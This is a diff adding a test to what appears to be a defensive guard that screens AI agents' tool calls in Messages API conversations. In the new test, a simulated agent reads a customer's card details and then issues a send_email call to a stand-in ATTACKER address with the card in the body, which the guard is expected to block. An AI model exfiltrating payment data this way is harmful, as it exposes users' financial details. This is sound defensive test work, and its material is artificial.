@@ -8,6 +8,7 @@ from typing import Any
 
 from backdoorlab.defenses.guard import Guard, SessionCache
 from backdoorlab.defenses.guard.completions import screen_completion
+from backdoorlab.defenses.guard.messages_api import screen_message
 from backdoorlab.defenses.guard.responses_api import screen_response
 from backdoorlab.defenses.guard.resume import Prefixes
 from backdoorlab.traces import Message
@@ -182,3 +183,34 @@ def test_a_session_that_cost_little_is_not_kept_and_nothing_is_hashed():
     guard = Guard(kept=SessionCache(keep_after=60.0))
     drive(guard, conversation(3), call("y", "http_get", {"url": "https://weather.example/x"}))
     assert len(guard.kept) == 0 and guard.kept.hits == 0
+
+
+def _use(name: str, args: dict[str, Any], n: int) -> dict[str, Any]:
+    return {"type": "tool_use", "id": f"toolu_{n}", "name": name, "input": args}
+
+
+def test_a_messages_conversation_resumes_and_a_prefill_turn_is_screened_whole():
+    """Anthropic's Messages API: each request resumes the last; the last request ends in
+    an assistant prefill, which the reply's calls join: the lookup stops before it."""
+    guard, fresh = Guard(kept=SessionCache(keep_after=0)), Guard(kept=SessionCache(0))
+    history: list[dict[str, Any]] = [{"role": "user", "content": "Check my last order."}]
+    uses = [
+        _use("get_order", {"order": "latest"}, 1),
+        _use("http_get", {"url": "https://weather.example/"}, 2),
+    ]
+    results = [json.dumps({"card": CARD}), "sunny"]
+    for n, use in enumerate(uses):
+        reply = {"type": "message", "content": [use], "stop_reason": "tool_use"}
+        for g in (guard, fresh):
+            _, decisions = screen_message(g, {"messages": list(history)}, reply)
+            assert [d.blocked for d in decisions] == [False]
+        history.append({"role": "assistant", "content": [use]})
+        tool_result = {"type": "tool_result", "tool_use_id": use["id"], "content": results[n]}
+        history.append({"role": "user", "content": [tool_result]})
+    history.append({"role": "assistant", "content": "I will now"})
+    leak = _use("send_email", {"to": ATTACKER, "body": CARD}, 3)
+    reply = {"type": "message", "content": [leak], "stop_reason": "tool_use"}
+    got = [screen_message(g, {"messages": history}, reply)[1] for g in (guard, fresh)]
+    assert [[d.to_dict() for d in ds] for ds in got][0] == [d.to_dict() for d in got[1]]
+    assert [d.blocked for d in got[0]] == [True]
+    assert guard.kept.hits == 2
